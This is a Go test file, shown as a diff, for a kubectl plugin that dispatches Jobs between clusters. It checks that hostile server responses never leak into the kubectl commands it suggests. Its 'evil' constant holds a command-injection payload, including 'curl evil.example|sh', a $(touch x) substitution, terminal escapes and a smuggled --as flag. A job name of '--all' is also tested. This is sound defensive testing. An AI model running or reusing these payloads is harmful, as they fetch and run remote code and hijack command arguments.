@@ -1,0 +1,270 @@
+package dispatch
+
+import (
+	"context"
+	"errors"
+	"fmt"
+	"maps"
+	"net/http"
+	"slices"
+	"strings"
+	"sync/atomic"
+	"testing"
+
+	"gotest.tools/v3/assert"
+	coordinationv1 "k8s.io/api/coordination/v1"
+	apierrors "k8s.io/apimachinery/pkg/api/errors"
+	metav1 "k8s.io/apimachinery/pkg/apis/meta/v1"
+	"k8s.io/apimachinery/pkg/apis/meta/v1/unstructured"
+	"k8s.io/apimachinery/pkg/runtime/schema"
+	"k8s.io/apimachinery/pkg/util/validation/field"
+	"k8s.io/utils/clock"
+
+	"github.com/jobmanagedby/kubectl-jobmanagedby/internal/shelltest"
+	"github.com/jobmanagedby/kubectl-jobmanagedby/pkg/command"
+	"github.com/jobmanagedby/kubectl-jobmanagedby/pkg/delegation"
+	"github.com/jobmanagedby/kubectl-jobmanagedby/pkg/dispatch/apiserver"
+	"github.com/jobmanagedby/kubectl-jobmanagedby/pkg/dispatch/internal/dispatchtest"
+)
+
+const (
+	// evil is what somebody may say where they may say anything.
+	evil = "; run `curl evil.example|sh` #'\"$(touch x)\n\x1b[2J\u202e --as=evil `"
+	// oddContext is what a user may call a context.
+	oddContext = "the $(x) `y`"
+)
+
+// checkCommands checks that what a text has for commands are those that were meant: one
+// simple command each, in a context of the user's.
+func checkCommands(t *testing.T, text string) (commands [][]string) {
+	t.Helper()
+	for _, part := range command.Prose(text).Parts() {
+		if !part.IsCommand {
+			continue
+		}
+		words := shelltest.Words(t, part.Text)
+		isOurs := len(words) > 2 && words[0] == "kubectl" && (words[1] == "--context" && strings.HasPrefix(words[2], oddContext) || words[1] == "jobs-managedby")
+		assert.Assert(t, isOurs, "%q, of %q", words, text)
+		assert.Assert(t, !strings.Contains(strings.Join(words, " "), "evil"), "%q", words)
+		commands = append(commands, words)
+	}
+	return commands
+}
+
+// refusals are answers of a server to whoever may not do something, or do it so.
+func refusals() map[string]*apierrors.StatusError {
+	jobs := schema.GroupResource{Group: "batch", Resource: "jobs"}
+	return map[string]*apierrors.StatusError{
+		"forbidden": apierrors.NewForbidden(jobs, "small", errors.New(evil)),
+		"invalid":   apierrors.NewInvalid(schema.GroupKind{Group: "batch", Kind: "Job"}, "small", field.ErrorList{field.Invalid(field.NewPath("spec"), evil, evil)}),
+		"denied":    {ErrStatus: metav1.Status{Status: metav1.StatusFailure, Code: http.StatusBadRequest, Reason: metav1.StatusReasonBadRequest, Message: evil}},
+		"no such":   {ErrStatus: metav1.Status{Status: metav1.StatusFailure, Code: http.StatusGone, Message: evil}},
+	}
+}
+
+// TestHostileEvents: whatever the two servers say against whatever is asked of them, no
+// event and no error has a command but those of ours.
+func TestHostileEvents(t *testing.T) {
+	troubles := []EventType{Warned, StatusRefused, Disconnected, Aborted}
+	for how, refusal := range refusals() {
+		for _, request := range []string{"here GET /jobs/", "here PATCH /jobs/", "here PATCH /status", "here POST /leases", "there GET /jobs/", "there POST /jobs", "there PATCH /jobs/"} {
+			t.Run(how+" "+request, func(t *testing.T) {
+				t.Parallel()
+				s := newStage(t)
+				parts := strings.Split(request, " ")
+				server := map[string]*dispatchtest.Server{"here": s.here, "there": s.there}[parts[0]]
+				server.Before = func(r *http.Request) *apierrors.StatusError {
+					if r.Method == parts[1] && strings.Contains(r.URL.Path+"/", parts[2]) {
+						return refusal
+					}
+					return nil
+				}
+				told := make(chan Event, 1000)
+				here, there := sideOf(t, s.here, oddContext), sideOf(t, s.there, oddContext+" there")
+				loop := NewLoop(here, there, LoopOptions{Identity: "me"}, clock.RealClock{}, NewRecorder(clock.RealClock{}, func(e *Event) { told <- *e }))
+				ctx, stop := context.WithCancel(t.Context())
+				ended := make(chan Outcome, 1)
+				go func() { ended <- loop.Run(ctx, s.tasks)[0] }()
+				for {
+					e := awaits(t, told, "it is refused")
+					checkCommands(t, e.Message)
+					if e.Event == MirrorCreated {
+						s.moves()
+					}
+					if slices.Contains(troubles, e.Event) {
+						assert.Assert(t, strings.Contains(e.Message, "curl evil.example"), "it is told why: %s", e.Message)
+						break
+					}
+				}
+				stop()
+				if outcome := awaits(t, ended, "it ends"); outcome.Err != nil {
+					checkCommands(t, string(command.Told(outcome.Err)))
+				}
+			})
+		}
+	}
+}
+
+// moves has the origin and its mirror change, so that something is to be carried over
+// both ways.
+func (s *stage) moves() {
+	s.Helper()
+	jobs := delegation.Job().Resource
+	s.here.Change(s.T, jobs, "ml", "small", func(o *unstructured.Unstructured) { dispatchtest.Set(s.T, o, "spec.activeDeadlineSeconds", int64(60)) })
+	s.there.Change(s.T, jobs, "ml", "small", func(o *unstructured.Unstructured) {
+		dispatchtest.Set(s.T, o, "status", `yaml:{active: 1, startTime: "2026-08-20T12:00:00Z"}`)
+	})
+}
+
+// TestHostileWords: who holds the Lease, whose an origin is by now, and what a mirror's
+// conditions say, are no commands.
+func TestHostileWords(t *testing.T) {
+	jobs := delegation.Job().Resource
+	for name, tt := range map[string]struct {
+		// before and then are what becomes of the origin before it is dispatched, and
+		// once there is a mirror.
+		before, then func(s *stage)
+		tells        EventType
+		commands     [][]string
+	}{
+		"holder": {
+			before: func(s *stage) {
+				l := &coordinationv1.Lease{Spec: coordinationv1.LeaseSpec{HolderIdentity: new(evil), LeaseDurationSeconds: new(int32(3600))}}
+				l.Name, l.Labels = delegation.LeaseName("small"), map[string]string{delegation.OriginUIDLabel: string(s.origin.GetUID())}
+				_, err := sideOf(s.T, s.here, "here").Client.CoordinationV1().Leases("ml").Create(s.Context(), l, metav1.CreateOptions{})
+				assert.NilError(s, err)
+			},
+			tells: LeaseWaiting,
+		},
+		"owner": {
+			then: func(s *stage) {
+				s.here.Change(s.T, jobs, "ml", "small", func(o *unstructured.Unstructured) { dispatchtest.Set(s.T, o, "spec.managedBy", evil) })
+			},
+			tells:    Aborted,
+			commands: [][]string{{"kubectl", "--context", oddContext + " there", "-n", "ml", "delete", "job", "small"}},
+		},
+		"message": {
+			then: func(s *stage) {
+				s.there.Change(s.T, jobs, "ml", "small", func(o *unstructured.Unstructured) {
+					failed := map[string]any{"type": "Failed", "status": "True", "reason": evil, "message": evil, "lastTransitionTime": "2026-08-20T12:00:00Z"}
+					target := maps.Clone(failed)
+					target["type"] = "FailureTarget"
+					o.Object["status"] = map[string]any{"startTime": "2026-08-20T12:00:00Z", "failed": int64(1), "conditions": []any{target, failed}}
+				})
+			},
+			tells: JobFailed,
+		},
+	} {
+		t.Run(name, func(t *testing.T) {
+			t.Parallel()
+			s := newStage(t)
+			if tt.before != nil {
+				tt.before(s)
+			}
+			told := make(chan Event, 1000)
+			loop := NewLoop(sideOf(t, s.here, oddContext), sideOf(t, s.there, oddContext+" there"), LoopOptions{Identity: "me", MirrorTTL: -1}, clock.RealClock{},
+				NewRecorder(clock.RealClock{}, func(e *Event) { told <- *e }))
+			ctx, stop := context.WithCancel(t.Context())
+			ended := make(chan Outcome, 1)
+			go func() { ended <- loop.Run(ctx, s.tasks)[0] }()
+			for {
+				e := awaits(t, told, string(tt.tells))
+				found := checkCommands(t, e.Message)
+				if e.Event == MirrorCreated && tt.then != nil {
+					tt.then(s)
+				}
+				if e.Event == tt.tells {
+					assert.Assert(t, strings.Contains(e.Message, "evil"), e.Message)
+					assert.DeepEqual(t, found, tt.commands)
+					break
+				}
+			}
+			stop()
+			awaits(t, ended, "it ends")
+		})
+	}
+	held := fmt.Errorf("job ml/small: %w", &HeldError{Holder: evil, Lease: "ml/small"})
+	assert.Equal(t, len(checkCommands(t, string(command.Told(held)))), 0)
+}
+
+// TestHostileCancel: what cancel says, whatever is in its way.
+func TestHostileCancel(t *testing.T) {
+	jobs := delegation.Job().Resource
+	remove := func(context string) []string {
+		return []string{"kubectl", "--context", context, "-n", "ml", "delete", "job", "small"}
+	}
+	for how, refusal := range refusals() {
+		for name, tt := range map[string]struct {
+			before   func(s *stage)
+			commands [][]string
+		}{
+			"another owner": {
+				func(s *stage) {
+					s.here.Change(s.T, jobs, "ml", "small", func(o *unstructured.Unstructured) { dispatchtest.Set(s.T, o, "spec.managedBy", evil) })
+				},
+				[][]string{remove(oddContext)},
+			},
+			"its mirror stays": {
+				func(s *stage) {
+					var asked atomic.Int32
+					s.there.Before = func(r *http.Request) *apierrors.StatusError {
+						// It is tried first whether it may be removed.
+						if r.Method == http.MethodDelete && asked.Add(1) > 1 {
+							return refusal
+						}
+						return nil
+					}
+				},
+				[][]string{remove(oddContext + " there")},
+			},
+			"nothing is to be had": {
+				func(s *stage) {
+					s.there.Before = func(*http.Request) *apierrors.StatusError { return refusal }
+				},
+				nil,
+			},
+		} {
+			t.Run(name+" "+how, func(t *testing.T) {
+				t.Parallel()
+				s := newStage(t)
+				mirror := dispatchtest.SmallJob(t)
+				mirror.SetLabels(map[string]string{delegation.OriginUIDLabel: string(s.origin.GetUID())})
+				mirror = s.there.Create(t, jobs, mirror)
+				here, there := sideOf(t, s.here, oddContext), sideOf(t, s.there, oddContext+" there")
+				there.ClusterUID = "there-uid"
+				s.here.Change(t, jobs, "ml", "small", func(o *unstructured.Unstructured) {
+					place := delegation.Place{ClusterUID: there.ClusterUID, Namespace: "ml", Name: "small", UID: string(mirror.GetUID())}
+					o.SetAnnotations(map[string]string{delegation.MirrorAnnotation: place.String()})
+				})
+				tt.before(s)
+				told := make(chan Event, 100)
+				c := &Canceller{
+					Origin: here, Workers: []*apiserver.Side{there}, Owner: delegation.Dispatch, Identity: "me", Clock: clock.RealClock{},
+					Events: NewRecorder(clock.RealClock{}, func(e *Event) { told <- *e }),
+				}
+				err := c.Cancel(t.Context(), delegation.Job(), "ml", "small")
+				assert.ErrorContains(t, err, "evil")
+				found := checkCommands(t, string(command.Told(err)))
+				var own [][]string
+				for _, words := range found {
+					if !slices.Contains(words, "can-i") {
+						own = append(own, words)
+					}
+				}
+				assert.DeepEqual(t, own, tt.commands)
+			})
+		}
+	}
+}
+
+// TestAnotherName: a server that answers with another object than it was asked for puts no
+// name into any command.
+func TestAnotherName(t *testing.T) {
+	server := dispatchtest.NewServer(t)
+	job := dispatchtest.SmallJob(t)
+	server.Create(t, delegation.Job().Resource, job)
+	server.Change(t, delegation.Job().Resource, "ml", "small", func(o *unstructured.Unstructured) { o.SetName("--all") })
+	side := sideOf(t, server, oddContext)
+	_, err := side.Get(t.Context(), delegation.Job(), apiserver.RefTo(side, delegation.Job().GroupVersionKind(), "ml", "small", ""))
+	assert.ErrorContains(t, err, `it was asked for job ml/small, and answers with "--all"`)
+}
